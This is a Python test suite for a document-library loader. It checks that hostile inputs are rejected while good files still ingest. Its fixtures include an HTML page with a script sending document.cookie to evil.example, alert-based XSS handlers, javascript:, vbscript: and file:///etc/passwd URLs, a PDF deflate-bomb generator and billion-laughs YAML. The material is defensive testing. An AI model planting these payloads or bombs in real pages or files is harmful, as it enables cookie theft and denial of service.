"""Hostile library files: each is skipped with a reason naming it, fast and in little memory,
while every good file next to it is still ingested."""

from __future__ import annotations

import io
import time
import tracemalloc
import zlib
from pathlib import Path

import pytest

from bot.ingest import ingest
from bot.services import Services
from content_store.loaders import LoadResult, load_library, pdf_text, reading, yaml_meta
from tests.content_store.test_loaders import make_pdf, md, write

GOOD = md(title="Pricing for 40 stores", body="Volume pricing for mid-market grocers.")


def problems_at(result: LoadResult, path: str) -> list[str]:
    return [problem.reason for problem in result.problems if problem.path == path]


def pdf_with_stream(stream: bytes, *, flate: bool, pages: int = 1) -> bytes:
    """A valid PDF whose pages all draw the same content stream (object 4)."""
    kids = " ".join(f"{5 + n} 0 R" for n in range(pages)).encode()
    filters = b" /Filter /FlateDecode" if flate else b""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d%s >>\nstream\n" % (len(stream), filters) + stream + b"\nendstream",
    ] + [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>"
    ] * pages
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref_at = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


def deflate_bomb(inflated_bytes: int) -> bytes:
    """Text drawing commands followed by `inflated_bytes` of spaces, deflated (~1000:1)."""
    packer = zlib.compressobj(1)
    parts = [packer.compress(b"BT /F1 12 Tf 72 712 Td (Bomb) Tj ET\n")]
    for start in range(0, inflated_bytes, 4_000_000):
        parts.append(packer.compress(b" " * min(4_000_000, inflated_bytes - start)))
    parts.append(packer.flush())
    return b"".join(parts)


def load_measured(root: Path) -> tuple[LoadResult, float, float]:
    """The result, the seconds it took and the peak of Python allocations in MB."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        result = load_library(root)
        return result, time.perf_counter() - started, tracemalloc.get_traced_memory()[1] / 1e6
    finally:
        tracemalloc.stop()


# --- binary junk, huge files ------------------------------------------------------------


@pytest.mark.parametrize("name", ["junk.md", "junk.pdf", "junk.html", "junk.txt"])
def test_binary_junk_with_a_content_extension_is_reported(tmp_path: Path, name: str) -> None:
    write(tmp_path, "good.md", GOOD)
    write(tmp_path, name, bytes(range(256)) * 64 + b"\x89PNG\r\n\x1a\n\x00\x00")

    result = load_library(tmp_path)

    assert [item.id for item in result.items] == ["good"]
    [reason] = problems_at(result, name)
    assert "not UTF-8" in reason or "PDF" in reason


def test_file_over_the_default_size_limit_is_refused_without_being_read(tmp_path: Path) -> None:
    write(tmp_path, "good.md", GOOD)
    with (tmp_path / "huge.md").open("wb") as handle:
        handle.truncate(reading.MAX_FILE_BYTES + 1)  # sparse: costs no disk, would cost RAM

    result, seconds, peak_mb = load_measured(tmp_path)

    assert [item.id for item in result.items] == ["good"]
    [reason] = problems_at(result, "huge.md")
    assert reason == "file is 20 MB; the limit is 20 MB"
    assert seconds < 1.0
    assert peak_mb < 5


# --- PDF decompression bombs ------------------------------------------------------------


def test_pdf_zip_bomb_is_refused_in_little_memory_and_time(tmp_path: Path) -> None:
    bomb = pdf_with_stream(deflate_bomb(400_000_000), flate=True)
    assert len(bomb) < 2_000_000  # a small file that inflates to 400 MB
    write(tmp_path, "good.md", GOOD)
    write(tmp_path, "bomb.pdf", bomb)
    write(tmp_path, "fine.pdf", make_pdf("A real whitepaper"))

    result, seconds, peak_mb = load_measured(tmp_path)

    assert sorted(item.id for item in result.items) == ["fine", "good"]
    [reason] = problems_at(result, "bomb.pdf")
    assert "decompression bomb" in reason and "10 MB" in reason
    assert peak_mb < 3 * pdf_text.MAX_PDF_STREAM_BYTES / 1e6  # never the 400 MB
    assert seconds < 5


def test_pdf_reusing_one_large_stream_on_every_page_stops_at_the_content_budget(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Each page is under the per-stream cap, but 500 pages of it would be gigabytes of work.
    monkeypatch.setattr(pdf_text, "MAX_PDF_STREAM_BYTES", 1_000_000)
    monkeypatch.setattr(pdf_text, "MAX_PDF_CONTENT_BYTES", 5_000_000)
    write(tmp_path, "pages.pdf", pdf_with_stream(deflate_bomb(900_000), flate=True, pages=500))

    result, seconds, _ = load_measured(tmp_path)

    [reason] = problems_at(result, "pages.pdf")
    assert "inflate past 5 MB" in reason and "by page 6" in reason
    assert seconds < 10


def test_pdf_under_the_caps_still_loads(tmp_path: Path) -> None:
    write(tmp_path, "big.pdf", pdf_with_stream(deflate_bomb(2_000_000), flate=True, pages=3))
    [item] = load_library(tmp_path).items
    assert item.body.startswith("Bomb")


# --- HTML with code in it -----------------------------------------------------------------

HOSTILE_HTML = """<!doctype html><html><head>
<title>Retail playbook<script>document.title='pwned-title'</script></title>
<style>body { background: url(javascript:alert('pwned-style')) }</style>
<script>fetch('https://evil.example/?c=' + document.cookie) // pwned-script</script>
</head><body onload="alert('pwned-onload')">
<h1 onclick="alert('pwned-onclick')">Retail playbook</h1>
<p>Shelf availability drives <a href="javascript:alert('pwned-href')">revenue</a>.</p>
<img src=x onerror="alert('pwned-onerror')">
<noscript>pwned-noscript</noscript><template><p>pwned-template</p></template>
<svg><script>alert('pwned-svg')</script></svg>
<SCRIPT type="module">import 'pwned-upper'</SCRIPT>
<script>unclosed('pwned-unclosed')
"""


def test_html_scripts_styles_and_handlers_never_reach_the_item(tmp_path: Path) -> None:
    write(tmp_path, "playbook.html", HOSTILE_HTML)

    [item] = load_library(tmp_path).items

    assert item.title == "Retail playbook"
    assert item.body == "Retail playbook\n\nShelf availability drives revenue."
    assert "pwned" not in item.title + item.body


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "file:///etc/passwd",
        "vbscript:msgbox(1)",
        "//evil.example/x",
        "https://",
        "https://evil.example/a b",
        "https://[::1",
    ],
)
def test_a_url_that_is_not_an_http_link_is_refused_wherever_it_is_set(
    tmp_path: Path, url: str
) -> None:
    write(tmp_path, "front.md", md(title="Front", url=f"'{url}'"))
    write(tmp_path, "side.html", "<p>Side</p>")
    write(tmp_path, "side.yml", f"title: Side\nurl: '{url}'\n")
    write(tmp_path, "cat/catalog.csv", f'id,title,url\nrow,Row,"{url}"\nok,Ok,https://ok.example\n')

    result = load_library(tmp_path)

    assert [item.id for item in result.items] == ["ok"]
    for path in ("front.md", "side.html", "cat/catalog.csv:1"):
        [reason] = problems_at(result, path)
        assert "`url` must be an http(s) link" in reason, (path, reason)


# --- YAML built to hurt -------------------------------------------------------------------


def billion_laughs(field: str, levels: int = 12) -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for n in range(1, levels):
        lines.append(f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 9) + "]")
    return "---\ntitle: Laughs\n" + "\n".join(lines) + f"\n{field}: *a{levels - 1}\n---\nbody\n"


@pytest.mark.parametrize("field", ["review_by", "title", "tags", "stage", "url", "unused"])
def test_billion_laughs_front_matter_is_refused_at_once(tmp_path: Path, field: str) -> None:
    write(tmp_path, "laughs.md", billion_laughs(field))
    write(tmp_path, "good.md", GOOD)

    result, seconds, peak_mb = load_measured(tmp_path)

    assert [item.id for item in result.items] == ["good"]
    [reason] = problems_at(result, "laughs.md")
    assert "YAML alias" in reason
    assert seconds < 1 and peak_mb < 10


def test_billion_laughs_in_a_sidecar_is_refused_too(tmp_path: Path) -> None:
    write(tmp_path, "doc.txt", "A document\n")
    write(tmp_path, "doc.yml", billion_laughs("review_by").strip("-\nbody"))
    [reason] = problems_at(load_library(tmp_path), "doc.txt")
    assert reason.startswith("sidecar doc.yml uses a YAML alias")


@pytest.mark.parametrize(
    "front",
    [
        "title: " + "[" * 5000 + "]" * 5000,
        "title: " + "{a: " * 3000 + "1" + "}" * 3000,
        "title: x\ntags:\n" + "".join("  " * n + "- \n" for n in range(1, 200)),
    ],
    ids=["flow-lists", "flow-maps", "block-lists"],
)
def test_deeply_nested_front_matter_is_refused_at_once(tmp_path: Path, front: str) -> None:
    write(tmp_path, "deep.md", f"---\n{front}\n---\nbody\n")

    started = time.perf_counter()
    result = load_library(tmp_path)
    seconds = time.perf_counter() - started

    [reason] = problems_at(result, "deep.md")
    assert "more than 10 levels deep" in reason
    assert seconds < 1


def test_oversized_front_matter_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
    tags = ", ".join(f"tag{n}" for n in range(20_000))
    write(tmp_path, "wide.md", f"---\ntitle: Wide\ntags: [{tags}]\n---\nbody\n")
    [reason] = problems_at(load_library(tmp_path), "wide.md")
    assert reason.startswith("front matter is ") and "limited to 64 KB" in reason
    assert yaml_meta.MAX_METADATA_CHARS == 64_000


def test_a_bad_value_is_quoted_back_short(tmp_path: Path) -> None:
    write(tmp_path, "long.md", md(review_by="x" * 100_000))
    [reason] = problems_at(load_library(tmp_path), "long.md")
    assert len(reason) < 200


# --- the whole set, through ingest --------------------------------------------------------


def test_a_hostile_library_ingests_its_good_files_and_reports_each_bad_one(
    tmp_path: Path, services: Services
) -> None:
    root = tmp_path / "library"
    write(root, "good.md", GOOD)
    write(root, "page.html", HOSTILE_HTML)
    write(root, "junk.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 16)
    write(root, "bomb.pdf", pdf_with_stream(deflate_bomb(100_000_000), flate=True))
    write(root, "broken.md", "---\ntitle: [unclosed\n---\nbody\n")
    write(root, "laughs.md", billion_laughs("review_by"))
    write(root, "evil-link.md", md(title="Click me", url="javascript:alert(1)"))

    report = ingest(services, root)

    assert sorted(report.added) == ["good", "page"]
    failed = {p.path: p.reason for p in report.problems}
    assert set(failed) == {"junk.pdf", "bomb.pdf", "broken.md", "laughs.md", "evil-link.md"}
    assert all(failed.values())
    results = services.searcher().search("shelf availability revenue", stage=None, k=2)
    assert "page" in [r.asset_id for r in results]
